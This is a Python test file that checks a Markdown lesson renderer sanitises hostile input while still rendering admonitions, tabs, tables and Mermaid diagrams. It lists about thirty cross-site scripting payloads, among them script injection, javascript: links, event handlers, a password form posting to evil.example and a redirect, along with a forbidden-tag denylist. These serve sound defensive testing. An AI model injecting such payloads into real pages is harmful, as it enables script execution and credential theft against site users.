"""Hostile Markdown is neutralised; the Markdown we teach with still renders."""

import re
from html.parser import HTMLParser

import pytest

from apps.lessons import rendering
from apps.lessons.rendering import has_mermaid, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![img](javascript:alert(1))",
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<div onclick="alert(1)" style="position:fixed;top:0">overlay</div>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    "<b onmouseover=alert(1)>broken <i>tags",
    "<<script>script>alert(1)<</script>/script>",
    '!!! warning "<img src=x onerror=alert(1)>Title"\n    body <script>alert(1)</script>',
    '=== "Tab <svg onload=alert(1)>"\n    content\n\n=== "Other"\n    more',
    '??? note "<iframe src=x>details"\n    hidden <img src=x onerror=alert(1)>',
    '```mermaid\ngraph TD\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A "javascript:alert(1)"\n```',
    "```mermaid\n</pre><script>alert(1)</script>\n```",
    '<details open ontoggle="alert(1)"><summary>x</summary>y</details>',
    '<input type="text" onfocus="alert(1)" autofocus>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<p id="__proto__" class="x" style="background:url(javascript:alert(1))">styled</p>',
    "<!-- <script>alert(1)</script> -->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "svg", "math", "style", "meta", "link", "form",
    "base", "button", "textarea", "select", "frame", "frameset", "applet",
}  # fmt: skip


class _Elements(HTMLParser):
    """Collects the real elements and attributes (escaped text is not an element)."""

    def __init__(self):
        super().__init__()
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(html):
    parser = _Elements()
    parser.feed(html)
    return parser.elements


def dangers(html: str) -> set[str]:
    """What in this HTML could run script, restyle or hijack the page; empty when it is safe."""
    found = set()
    for tag, attrs in elements(html):
        if tag in FORBIDDEN_TAGS:
            found.add(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.add("event handler")
            if name == "style":
                found.add("style attribute")
            if name in {"href", "src"} and (
                not (value or "").strip().lower().startswith(("https://", "http://", "/", "#", "mailto:"))
                or (value or "").startswith("//")
            ):
                found.add(f"unsafe {name}")
        if tag == "input" and (
            attrs.get("type") not in {"checkbox", "radio"} or "autofocus" in attrs or "formaction" in attrs
        ):
            found.add("form input")
    return found


@pytest.mark.parametrize("payload", HOSTILE)
def test_it_neutralises_hostile_markdown(payload):
    html = render_markdown(payload)
    assert dangers(html) == set(), html


def test_the_payloads_are_dangerous_without_the_sanitiser(monkeypatch):
    """Each kind of danger the test above looks for is really in the payloads: with the sanitiser
    switched off, the same check finds it, in most payloads. (A check that found nothing, or
    payloads that held nothing, would let the test above pass whatever the sanitiser did.)"""
    monkeypatch.setattr(rendering, "sanitize", lambda html: html)
    found = {payload: dangers(render_markdown(payload)) for payload in HOSTILE}
    kinds = set().union(*found.values())
    assert {"<script>", "<iframe>", "<svg>", "<style>", "<form>", "event handler", "style attribute",
            "unsafe href", "unsafe src", "form input"} <= kinds, kinds  # fmt: skip
    # Only the payloads aimed at the renderer's own escaping (a Mermaid fence) or at comments
    # hold no live element before sanitising; every other one must.
    harmless = [payload for payload, danger in found.items() if not danger]
    assert all(p.startswith(("```mermaid", "<!--")) for p in harmless), harmless
    assert len(HOSTILE) - len(harmless) >= 25


def test_it_keeps_the_markdown_lessons_use():
    html = render_markdown(
        "## Probes\n\n"
        '!!! tip "Start small"\n    Use a readiness probe.\n\n'
        '??? note "More"\n    Hidden detail.\n\n'
        '=== "kubectl"\n    ```bash\n    kubectl get pods\n    ```\n\n'
        '=== "flux"\n    Second tab.\n\n'
        "- [x] done\n- [ ] todo\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "```yaml\nkind: Pod\n```\n\n"
        "```mermaid\ngraph TD; A-->B\n```\n\n"
        "[docs](https://kubernetes.io/docs/) and ![diagram](/static/img/favicon.svg)\n"
    )
    assert '<h2 id="probes">Probes</h2>' in html
    assert 'class="admonition tip"' in html and "Start small" in html
    assert "<details" in html and "<summary>More</summary>" in html
    assert 'type="radio"' in html and 'class="tabbed-set tabbed-alternate"' in html
    assert re.search(r'<label for="__tabbed_\d+_1">kubectl</label>', html)
    assert 'type="checkbox"' in html and "task-list" in html
    assert "<table>" in html and "<td>1</td>" in html
    assert '<span class="nt">kind</span>' in html  # Pygments highlighting
    assert has_mermaid(html) and "A--&gt;B" in html
    assert '<a href="https://kubernetes.io/docs/" rel="noopener noreferrer nofollow">docs</a>' in html
    assert '<img alt="diagram" src="/static/img/favicon.svg">' in html


def test_mermaid_source_stays_text():
    html = render_markdown('```mermaid\ngraph TD\n  A["</pre><script>x</script>"]\n```')
    assert "<script" not in html
    assert "&lt;/pre&gt;" in html or "&lt;script&gt;" in html
